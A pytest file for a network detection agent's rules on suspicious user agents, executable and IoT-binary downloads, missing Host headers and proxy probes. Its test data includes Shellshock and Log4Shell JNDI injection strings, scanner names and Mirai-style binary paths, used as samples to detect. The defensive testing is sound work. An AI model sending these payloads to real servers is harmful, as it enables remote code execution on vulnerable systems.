"""Rules about single requests: agents, downloads, missing Host, proxy probes."""

import pytest

from agent.config import ConfigError, convert
from agent.detections import direct_download, iot_download, missing_host, proxy_probe, user_agent
from tests import packets
from tests.detections.seen import request

AGENTS = user_agent.Detection(user_agent.Config())


@pytest.mark.parametrize(
    ("agent", "trail"),
    [
        ("masscan/1.0", "masscan(/1.0)"),
        ("xx masscan", "(xx )masscan"),
        ("Wget", "Wget"),
        ("Mozilla/5.0 (compatible; Nmap Scripting Engine)", None),
        ("sqlmap/1.7.2#stable (https://sqlmap.org)", None),
        ("Mozilla/5.0 zgrab/0.x", None),
        ("() { :; }; /bin/bash -c id", None),
        ("${jndi:ldap://192.0.2.1/a}", None),
        ("Mozila/5.0 (Windows NT 10.0)", None),
        ("Hello, world", "Hello, world"),
        ("-", "-"),
        ("a", "a"),
        ("Nikto%2F2.5", None),
    ],
)
def test_suspicious_agents_are_told(agent: str, trail: str | None) -> None:
    """What matched stays bare in the trail (H-14)."""
    finding = AGENTS.examine(request(agent=agent))

    assert finding is not None
    assert (finding.type, finding.info) == ("UA", "user agent (suspicious)")
    assert trail is None or finding.trail == trail


@pytest.mark.parametrize(
    "agent",
    [
        "",
        (
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
            "Chrome/126.0.0.0 Safari/537.36"
        ),
        "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
        (
            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 "
            "(KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1"
        ),
        "Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko",
        "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "Mozilla/5.0",
        "curl/8.0",
        "python-requests/2.31.0",
        "Wget/1.21.4",
        "Go-http-client/1.1",
        "Debian APT-HTTP/1.3 (2.6.1)",
        "Microsoft-CryptoAPI/10.0",
        "Microsoft-Delivery-Optimization/10.1",
        "Windows-Update-Agent/10.0.10011.16384 Client-Protocol/2.70",
        "Prometheus/2.53.0",
        "Zabbix 6.0.0",
        "okhttp/4.12.0",
        "Java/17.0.9",
        "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/UQ1A)",
        "Spotify/8.9 iOS/17.5 (iPhone15,2)",
        "CUPS/2.4.2 (Linux) IPP/2.0",
        "Sophos Update/1.0 nikto",
    ],
)
def test_ordinary_agents_are_not_told(agent: str) -> None:
    """Browsers, updaters, monitoring, what people script with."""
    assert AGENTS.examine(request(agent=agent)) is None


@pytest.mark.parametrize(
    ("target", "info"),
    [
        ("/setup.exe", "direct .exe download (suspicious)"),
        ("/a/b/x.ps1?v", "direct .ps1 download (suspicious)"),
        ("/123456789.dll", "direct .dll download (suspicious)"),
        ("/1234567890.dll", ""),
        ("/cgi-bin/a.exe", ""),
        ("/100mb.bin", ""),
        ("/rpcwithcert/rpcproxy.dll?mail.example.com:6004", ""),
        ("/1gib.bin", ""),
        ("/100mb.exe", "direct .exe download (suspicious)"),
        ("/x.exe?id=1", ""),
        ("/.exe", ""),
        ("/x.exe/index.html", ""),
        ("/archive.zip", ""),
    ],
)
def test_programs_with_short_names_are_told(target: str, info: str) -> None:
    """From outside, rule H-18 with its exceptions; the threshold is a length."""
    detection = direct_download.Detection(direct_download.Config())
    finding = detection.examine(request(target))

    assert (finding.info if finding else "") == info
    assert detection.examine(request(target, leaves_home=False)) is None


@pytest.mark.parametrize(
    ("target", "told"),
    [
        ("/mirai.x86", True),
        ("/bins/arm7", True),
        ("/x86", True),
        ("/wtf", True),
        ("/sora.mpsl", True),
        ("/bins.sh", True),
        ("/a/aarch64", True),
        ("/armv7l", True),
        ("/index.html", False),
        ("/legit/path.php", False),
        ("/arms", False),
        ("/x86/readme.txt", False),
    ],
)
def test_programs_for_processors_are_told(target: str, told: bool) -> None:
    """Only below an address outside (H-20)."""
    detection = iot_download.Detection(iot_download.Config())

    assert (
        detection.examine(request(target, "198.51.100.9", is_host_address=True)) is not None
    ) == told
    assert detection.examine(request(target)) is None
    assert detection.examine(request(target, is_host_address=True, leaves_home=False)) is None


def test_a_request_without_a_host_is_told() -> None:
    """By the address that it went to (H-13)."""
    detection = missing_host.Detection(missing_host.Config())
    whole = packets.http_request("/x", None)
    finding = detection.examine(request("/x", has_host=False, packet=whole))

    assert finding is not None
    assert (finding.trail, finding.info) == ("203.0.113.80/x", "missing host header (suspicious)")
    assert detection.examine(request("/x", packet=whole)) is None
    assert detection.examine(request("/x", has_host=False, packet=whole[:-2])) is None


@pytest.mark.parametrize(
    ("target", "trail"),
    [
        ("http://foo.biz/echo", "http://foo.biz/(echo)"),
        ("http://proxycheck.example/", "http://proxycheck.example/"),
        ("http://foo.biz:80/check?x", "http://foo.biz/(check?x)"),
        ("http://foo.biz/index", ""),
        ("/check", ""),
    ],
)
def test_proxy_probes_are_told(target: str, trail: str) -> None:
    """A whole URL on port 80 with one of the words (H-21)."""
    detection = proxy_probe.Detection(proxy_probe.Config())
    finding = detection.examine(request(target))

    assert (finding.trail if finding else "") == trail
    assert detection.examine(request(target, port=3128)) is None


@pytest.mark.parametrize(
    ("module", "settings", "said"),
    [
        (user_agent, {"repeat": -1}, "repeat: expected 0 to 604800 seconds, found -1"),
        (direct_download, {"name_length": 1}, "name_length: expected 2 to 255, found 1"),
        (missing_host, {"hosts": 1}, "hosts: unknown key; see config.yaml for the known keys"),
    ],
)
def test_settings_that_make_no_sense_are_refused(
    module: object, settings: dict[str, int], said: str
) -> None:
    """One line, with the key below `detections`."""
    with pytest.raises(ConfigError) as error:
        convert(settings, module.Config, "detections.x")  # type: ignore[attr-defined]

    assert str(error.value) == f"detections.x: {said}"
